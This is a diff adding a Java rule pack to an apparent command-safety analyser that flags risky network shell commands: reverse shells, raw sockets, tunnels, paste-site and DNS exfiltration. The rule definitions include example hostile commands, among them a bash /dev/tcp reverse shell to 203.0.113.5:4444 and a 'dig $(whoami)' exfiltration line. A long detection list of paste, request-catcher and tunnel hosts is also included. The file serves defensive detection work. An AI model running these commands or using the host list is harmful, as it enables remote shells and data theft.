@@ -1,0 +1,418 @@
+package dev.warden.analysis.net;
+
+import static dev.warden.call.Severity.CRITICAL;
+import static dev.warden.call.Severity.HIGH;
+import static dev.warden.call.Severity.LOW;
+import static dev.warden.call.Severity.MEDIUM;
+
+import dev.warden.analysis.Hosts;
+import dev.warden.analysis.Invocation;
+import dev.warden.analysis.Pack;
+import dev.warden.analysis.Report;
+import dev.warden.analysis.Rule;
+import dev.warden.call.Command;
+import dev.warden.call.PathUse;
+import java.util.List;
+import java.util.Locale;
+import java.util.Set;
+import org.jspecify.annotations.Nullable;
+
+/**
+ * The network: which hosts a command contacts (for the profile's allowed domains), and what
+ * leaves the machine. Uploads and request bodies raise {@link Report.Signal#NETWORK_SEND}; with
+ * a secret read in the same call that becomes the CRITICAL exfiltration finding.
+ *
+ * <p>Policy choices: downloads and API calls over HTTPS are not findings (the profile's domain
+ * list governs them). An upload of an ordinary file with curl is LOW (logged); bulk copies to
+ * other machines or buckets (scp, rsync, rclone, cloud copies) are MEDIUM; anything sent to a
+ * paste site, request catcher or tunnel is HIGH. HTTP DELETE to a non-local host is HIGH, PUT
+ * and PATCH MEDIUM: they change remote state.
+ */
+final class NetPack implements Pack {
+
+    static final Rule REVERSE_SHELL = new Rule("net.reverse-shell", CRITICAL,
+            "connects a shell to a network socket (a reverse or bind shell)", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
+            "never attach a shell to a network connection");
+    static final Rule RAW_SOCKET = new Rule("net.raw-socket", MEDIUM,
+            "opens a raw network connection (nc, socat, telnet, /dev/tcp)", "nc example.com 1234",
+            "use an HTTP client against the documented API");
+    static final Rule LISTEN = new Rule("net.listen", MEDIUM,
+            "serves files or a port to the network", "python3 -m http.server 8080",
+            "bind to 127.0.0.1 and stop the server when done");
+    static final Rule TUNNEL = new Rule("net.tunnel", HIGH,
+            "exposes a local port to the internet through a tunnel or remote forward", "ngrok http 3000",
+            "ask the user before exposing anything publicly");
+    static final Rule UPLOAD = new Rule("net.upload", LOW,
+            "sends a local file in a request body", "curl -T build.tar.gz https://example.com/upload", "");
+    static final Rule COPY_OFF = new Rule("net.copy-off-machine", MEDIUM,
+            "copies files to another machine or storage bucket", "scp dist.zip user@host:/srv/",
+            "let the user's deploy pipeline move artifacts");
+    static final Rule PASTE = new Rule("net.exfil-host", HIGH,
+            "sends data to a paste site, request catcher or tunnel endpoint, a common exfiltration path",
+            "curl -F 'f=@out.txt' ix.io", "do not publish data on third-party services");
+    static final Rule SUSPICIOUS = new Rule("net.suspicious-host", MEDIUM,
+            "contacts a raw IP address or an anonymous paste/tunnel service", "curl http://203.0.113.7/x",
+            "use the service's documented host name");
+    static final Rule HTTP_WRITE = new Rule("net.http-write", MEDIUM,
+            "changes or deletes remote state over HTTP (PUT, PATCH, DELETE)", "curl -X DELETE https://es.example.com/my-index",
+            "use the service's CLI with a dry run, or ask a human to approve the change");
+    static final Rule INSECURE = new Rule("net.insecure-download", MEDIUM,
+            "downloads over plain HTTP to a file, which anyone on the path can tamper with", "curl -o out.txt http://example.com",
+            "download over https");
+    static final Rule DNS_EXFIL = new Rule("net.dns-exfil", MEDIUM,
+            "builds a DNS name from command output, which leaks data through lookups", "dig $(whoami).example.com",
+            "look up fixed names only");
+
+    static final List<Rule> RULES = List.of(REVERSE_SHELL, RAW_SOCKET, LISTEN, TUNNEL, UPLOAD, COPY_OFF, PASTE,
+            SUSPICIOUS, HTTP_WRITE, INSECURE, DNS_EXFIL);
+
+    private static final Set<String> PROGRAMS = Set.of("curl", "wget", "http", "https", "xh", "xhs", "httpie",
+            "nc", "ncat", "netcat", "socat", "telnet", "ssh", "scp", "sftp", "rsync", "rclone", "ftp", "tftp", "lftp",
+            "dig", "nslookup", "host", "drill", "ping", "ping6", "traceroute", "mtr", "whois", "openssl", "ngrok",
+            "cloudflared", "lt", "localtunnel", "bore", "frpc", "ztcp", "zsocket", "python", "php", "ruby", "busybox",
+            "aria2c", "axel", "lynx", "w3m", "links", "mosh", "autossh", "sshpass", "smbclient", "nmap", "masscan",
+            "cryptcat", "pwncat", "gsutil", "azcopy", "s3cmd", "mc", "sendmail", "mail", "mutt", "swaks", "open",
+            "xdg-open", "gh", "aws", "az", "gcloud");
+
+    private static final String[] EXFIL_HOSTS = {"pastebin.com", "paste.ee", "hastebin.com", "ix.io", "termbin.com",
+            "0x0.st", "transfer.sh", "file.io", "webhook.site", "requestbin", "pipedream.net", "ngrok.io", "ngrok-free.app",
+            "ngrok.app", "trycloudflare.com", "interact.sh", "oast.", "burpcollaborator.net", "dnslog.cn", "ceye.io",
+            "canarytokens", "temp.sh", "bashupload.com", "catbox.moe", "anonfiles", "gofile.io", "discord.com/api/webhooks",
+            "discordapp.com/api/webhooks", "api.telegram.org", "hookbin.com", "beeceptor.com", "postb.in", "ptpb.pw",
+            "sprunge.us", "clbin.com", "dpaste", "ghostbin", "rentry.co", "paste.rs", "loca.lt", "serveo.net",
+            "localhost.run", "pinggy", "oastify.com", "requestcatcher.com", "mockbin"};
+
+    @Override
+    public String name() {
+        return "net";
+    }
+
+    @Override
+    public List<Rule> rules() {
+        return RULES;
+    }
+
+    @Override
+    public Set<String> programs() {
+        return PROGRAMS;
+    }
+
+    @Override
+    public void inspect(Invocation c, Report out) {
+        switch (c.program()) {
+            case "curl" -> http(c, Http.curl(c), out);
+            case "wget", "aria2c", "axel" -> http(c, Http.wget(c), out);
+            case "http", "https", "xh", "xhs", "httpie" -> http(c, Http.httpie(c), out);
+            case "nc", "ncat", "netcat", "cryptcat", "pwncat" -> netcat(c, out);
+            case "socat" -> socat(c, out);
+            case "telnet", "ztcp", "zsocket", "tftp", "ftp", "lftp", "smbclient" -> {
+                String h = firstHost(c);
+                if (h != null && !Hosts.local(h)) {
+                    out.host(h);
+                    out.add(RAW_SOCKET.finding(c.text()));
+                    out.signal(Report.Signal.NETWORK_SEND);
+                } else if (c.program().equals("ztcp") && c.flag("-l")) {
+                    out.add(LISTEN.finding(c.text()));
+                }
+            }
+            case "ssh", "mosh", "autossh" -> ssh(c, out);
+            case "sshpass" -> { }
+            case "scp", "sftp", "rsync", "rclone", "gsutil", "azcopy", "s3cmd", "mc" -> Transfers.inspect(c, out);
+            case "dig", "nslookup", "host", "drill", "ping", "ping6", "traceroute", "mtr", "whois" -> dns(c, out);
+            case "openssl" -> {
+                String connect = c.option("-connect").orElse("");
+                String h = Hosts.hostOf(connect.contains("://") ? connect : "x://" + connect);
+                if (!connect.isEmpty() && h != null) {
+                    out.host(h);
+                }
+            }
+            case "ngrok", "cloudflared", "lt", "localtunnel", "bore", "frpc" -> {
+                List<String> ops = c.operands();
+                if (!ops.isEmpty() && !ops.get(0).equals("version") && !ops.get(0).equals("help") && !c.flag("--help", "-h", "--version")
+                        && !(ops.get(0).equals("config") || ops.get(0).equals("update") || ops.get(0).equals("login"))) {
+                    out.add(TUNNEL.finding(c.text()));
+                }
+            }
+            case "python", "php", "ruby", "busybox" -> server(c, out);
+            case "nmap", "masscan" -> {
+                for (String o : c.operands()) {
+                    String h = Hosts.hostOf(o);
+                    if (h != null) {
+                        out.host(h);
+                    }
+                }
+                out.add(RAW_SOCKET.finding(MEDIUM, "scans hosts or ports on the network", c.text()));
+            }
+            case "sendmail", "mail", "mutt", "swaks" -> {
+                if (!c.operands().isEmpty() || c.flag("-t", "--to")) {
+                    out.add(UPLOAD.finding(MEDIUM, "sends email", c.text()));
+                    out.signal(Report.Signal.NETWORK_SEND);
+                }
+            }
+            case "open", "xdg-open" -> {
+                for (String o : c.operands()) {
+                    if (o.contains("://")) {
+                        String h = Hosts.hostOf(o);
+                        if (h != null) {
+                            out.host(h);
+                        }
+                    }
+                }
+            }
+            case "aws", "az", "gcloud" -> Transfers.cloudCopy(c, out);
+            case "gh" -> {
+                // gh talks to GitHub (or GH_HOST)
+                out.host(c.env().getOrDefault("GH_HOST", "github.com"));
+            }
+            default -> { }
+        }
+    }
+
+    private static @Nullable String firstHost(Invocation c) {
+        for (String o : c.operands(Set.of("-p", "-l", "-b", "-e", "-c", "-d", "-i", "-w", "-q", "-s", "-x", "-P",
+                "-a", "-o", "-O", "-u"))) {
+            String h = Hosts.hostOf(o.contains("://") ? o : "x://" + o);
+            if (h != null && !h.isEmpty() && !isNumber(h)) {
+                return h;
+            }
+        }
+        return null;
+    }
+
+    private static boolean isNumber(String s) {
+        for (int i = 0; i < s.length(); i++) {
+            if (!Character.isDigit(s.charAt(i))) {
+                return false;
+            }
+        }
+        return true;
+    }
+
+    // ---- HTTP ------------------------------------------------------------------------------
+
+    private static void http(Invocation c, Http h, Report out) {
+        boolean remote = false;
+        boolean plainHttp = false;
+        String exfil = null;
+        String rawIp = null;
+        for (String u : h.urls()) {
+            if (Invocation.dynamic(u) && (u.contains("$(") || u.contains("`"))) {
+                out.signal(Report.Signal.NETWORK_SEND); // command output inside the URL
+            }
+            String host = Hosts.hostOf(u.contains("://") ? u : "http://" + u);
+            if (host == null) {
+                continue;
+            }
+            out.host(host);
+            if (Hosts.local(host)) {
+                continue;
+            }
+            remote = true;
+            String lower = u.toLowerCase(Locale.ROOT);
+            if (lower.startsWith("http://") || lower.startsWith("ftp://") || !lower.contains("://")) {
+                plainHttp = true;
+            }
+            String ex = exfilHost(lower);
+            if (ex != null) {
+                exfil = ex;
+            }
+            if (Hosts.ipv4(host) && !privateIp(host)) {
+                rawIp = host;
+            }
+        }
+        for (String f : h.uploads()) {
+            c.path(f).ifPresent(p -> out.path(p.toString(), PathUse.Access.READ, c.text()));
+        }
+        if (h.toFile() && !h.output().isEmpty()) {
+            c.path(h.output()).ifPresent(p -> out.path(p.toString(), PathUse.Access.WRITE, c.text()));
+        }
+        if (!remote) {
+            return;
+        }
+        boolean sends = h.body() || !h.uploads().isEmpty() || h.stdinBody();
+        if (sends) {
+            out.signal(Report.Signal.NETWORK_SEND);
+        }
+        if (exfil != null) {
+            out.add(sends ? PASTE.finding("sends data to " + exfil + ", a paste site or request catcher", c.text())
+                    : SUSPICIOUS.finding("contacts " + exfil + ", an anonymous paste or tunnel service", c.text()));
+        } else if (rawIp != null) {
+            out.add(SUSPICIOUS.finding("contacts the raw IP address " + rawIp, c.text()));
+        }
+        switch (h.method()) {
+            case "DELETE" -> out.add(HTTP_WRITE.finding(HIGH, "sends an HTTP DELETE to a remote service", c.text()));
+            case "PUT", "PATCH" -> out.add(HTTP_WRITE.finding(c.text()));
+            default -> { }
+        }
+        if (!h.uploads().isEmpty() && exfil == null) {
+            out.add(UPLOAD.finding(c.text()));
+        }
+        if (plainHttp && h.toFile() && !sends) {
+            out.add(INSECURE.finding(c.text()));
+        }
+    }
+
+    static @Nullable String exfilHost(String lowerUrl) {
+        for (String e : EXFIL_HOSTS) {
+            if (lowerUrl.contains(e)) {
+                return e;
+            }
+        }
+        return null;
+    }
+
+    private static boolean privateIp(String ip) {
+        return ip.startsWith("10.") || ip.startsWith("192.168.") || ip.startsWith("127.") || ip.startsWith("169.254.")
+                || ip.startsWith("172.") && secondOctetPrivate(ip);
+    }
+
+    private static boolean secondOctetPrivate(String ip) {
+        try {
+            int second = Integer.parseInt(ip.split("\\.")[1]);
+            return second >= 16 && second <= 31;
+        } catch (RuntimeException e) {
+            return false;
+        }
+    }
+
+    // ---- sockets ---------------------------------------------------------------------------
+
+    private static void netcat(Invocation c, Report out) {
+        if (c.flag("-e", "-c", "--exec", "--sh-exec", "--lua-exec")) {
+            out.add(REVERSE_SHELL.finding(c.text()));
+            return;
+        }
+        if (c.flag("-l", "--listen")) {
+            out.add(LISTEN.finding(c.text()));
+            return;
+        }
+        String h = firstHost(c);
+        if (h == null) {
+            return;
+        }
+        out.host(h);
+        if (!Hosts.local(h) && !c.flag("-z")) {
+            out.add(RAW_SOCKET.finding(c.text()));
+            out.signal(Report.Signal.NETWORK_SEND);
+        }
+    }
+
+    private static void socat(Invocation c, Report out) {
+        boolean remote = false;
+        for (String a : c.operands()) {
+            String l = a.toLowerCase(Locale.ROOT);
+            if (l.startsWith("exec:") || l.startsWith("system:") || l.contains(",exec:")) {
+                out.add(REVERSE_SHELL.finding(c.text()));
+                return;
+            }
+            if (l.startsWith("tcp-listen") || l.startsWith("tcp4-listen") || l.startsWith("tcp6-listen")
+                    || l.startsWith("udp-listen") || l.startsWith("openssl-listen")) {
+                out.add(LISTEN.finding(c.text()));
+                return;
+            }
+            int colon = l.indexOf(':');
+            if (colon > 0 && (l.startsWith("tcp") || l.startsWith("udp") || l.startsWith("openssl") || l.startsWith("socks"))) {
+                String rest = a.substring(colon + 1);
+                int c2 = rest.lastIndexOf(':');
+                String host = c2 > 0 ? rest.substring(0, c2) : rest;
+                out.host(host.toLowerCase(Locale.ROOT));
+                remote |= !Hosts.local(host);
+            }
+        }
+        if (remote) {
+            out.add(RAW_SOCKET.finding(c.text()));
+            out.signal(Report.Signal.NETWORK_SEND);
+        }
+    }
+
+    private static void ssh(Invocation c, Report out) {
+        List<String> ops = c.operands(Set.of("-p", "-i", "-l", "-o", "-F", "-L", "-R", "-D", "-W", "-J", "-b", "-c",
+                "-E", "-e", "-I", "-m", "-O", "-Q", "-S", "-w", "-B"));
+        if (!ops.isEmpty()) {
+            String target = ops.get(0);
+            String h = Hosts.hostOf(target.contains("://") ? target : "ssh://" + target);
+            if (h != null) {
+                out.host(h);
+            }
+        }
+        if (c.flag("-R")) {
+            out.add(TUNNEL.finding("opens a remote port forward, exposing a local port on another machine", c.text()));
+        } else if (c.flag("-D")) {
+            out.add(TUNNEL.finding(MEDIUM, "opens a SOCKS proxy through another machine", c.text()));
+        }
+    }
+
+    private static void dns(Invocation c, Report out) {
+        for (String o : c.operands(Set.of("-t", "-c", "-p", "-q", "-x", "-b", "-k", "-y", "-W", "-w", "-i", "-s", "-m", "-f"))) {
+            if (o.startsWith("@")) {
+                continue;
+            }
+            if (o.contains("$(") || o.contains("`")) {
+                out.add(DNS_EXFIL.finding(c.text()));
+                out.signal(Report.Signal.NETWORK_SEND);
+                return;
+            }
+            String h = Hosts.hostOf(o);
+            if (h != null) {
+                out.host(h);
+            } else if (!o.startsWith("-") && !Invocation.dynamic(o) && o.indexOf('.') < 0 && o.length() < 64 && !isNumber(o)) {
+                out.host(o.toLowerCase(Locale.ROOT));
+            }
+        }
+    }
+
+    private static void server(Invocation c, Report out) {
+        List<String> args = c.args();
+        String prog = c.program();
+        if (prog.equals("python")) {
+            int m = args.indexOf("-m");
+            if (m >= 0 && m + 1 < args.size()) {
+                String mod = args.get(m + 1);
+                if (mod.equals("http.server") || mod.equals("SimpleHTTPServer") || mod.equals("pyftpdlib")
+                        || mod.equals("smtpd") || mod.equals("uploadserver")) {
+                    String bind = c.option("-b", "--bind").orElse("");
+                    if (!bind.startsWith("127.") && !bind.equals("localhost") && !bind.equals("::1")) {
+                        out.add(LISTEN.finding(c.text()));
+                    }
+                }
+            }
+        } else if (prog.equals("php")) {
+            String addr = c.option("-S").orElse(null);
+            if (addr != null && !addr.startsWith("127.") && !addr.startsWith("localhost")) {
+                out.add(LISTEN.finding(c.text()));
+            }
+        } else if (prog.equals("ruby")) {
+            if (args.contains("-run") && args.contains("httpd") || args.contains("un") && args.contains("httpd")) {
+                out.add(LISTEN.finding(c.text()));
+            }
+        } else if (prog.equals("busybox")) {
+            if (!args.isEmpty() && (args.get(0).equals("httpd") || args.get(0).equals("nc") && args.contains("-l"))) {
+                out.add(LISTEN.finding(c.text()));
+            }
+        }
+    }
+
+    /** /dev/tcp and /dev/udp redirections, on any command. */
+    static void devTcp(Invocation c, Report out) {
+        for (Command.Redirect r : c.command().redirects()) {
+            String t = r.target();
+            if (!t.startsWith("/dev/tcp/") && !t.startsWith("/dev/udp/")) {
+                continue;
+            }
+            String rest = t.substring(9);
+            int slash = rest.indexOf('/');
+            String host = slash < 0 ? rest : rest.substring(0, slash);
+            out.host(host.toLowerCase(Locale.ROOT));
+            out.signal(Report.Signal.NETWORK_SEND);
+            String prog = c.program();
+            boolean shell = dev.warden.analysis.exec.ExecRules.isShell(prog);
+            if (shell || prog.equals("exec") && r.op().contains("<>")) {
+                out.add(REVERSE_SHELL.finding(shell ? REVERSE_SHELL.description()
+                        : "opens a two-way network connection inside the shell (the start of a reverse shell)", c.text()));
+            } else if (!Hosts.local(host)) {
+                out.add(RAW_SOCKET.finding("sends data over a raw /dev/tcp connection to " + host, c.text()));
+            }
+            return;
+        }
+    }
+}
